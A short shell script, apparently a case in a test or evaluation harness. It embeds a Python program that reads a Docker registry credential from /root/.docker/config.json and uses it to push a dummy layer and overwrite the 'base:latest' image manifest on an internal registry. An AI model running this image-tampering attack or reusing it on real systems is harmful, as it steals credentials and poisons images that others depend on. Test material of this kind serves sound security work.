#!/bin/sh
. /opt/case/case.sh

cat >/tmp/push.py <<'END'
import json, hashlib, urllib.request
auth = json.load(open("/root/.docker/config.json"))["auths"]["registry.example.org"]["auth"]
def send(path, body, kind):
    request = urllib.request.Request("http://10.77.0.1:8080" + path, body, {"Authorization": "Basic " + auth, "Content-Type": kind}, method="PUT")
    return urllib.request.urlopen(request).status
layer = open("/usr/bin/true", "rb").read()
digest = "sha256:" + hashlib.sha256(layer).hexdigest()
send("/v2/base/blobs/uploads/1?digest=" + digest, layer, "application/octet-stream")
manifest = json.dumps({"schemaVersion": 2, "layers": [{"digest": digest}]}).encode()
print(send("/v2/base/manifests/latest", manifest, "application/vnd.oci.image.manifest.v1+json"))
END
python3 /tmp/push.py | grep -q 200
took_place
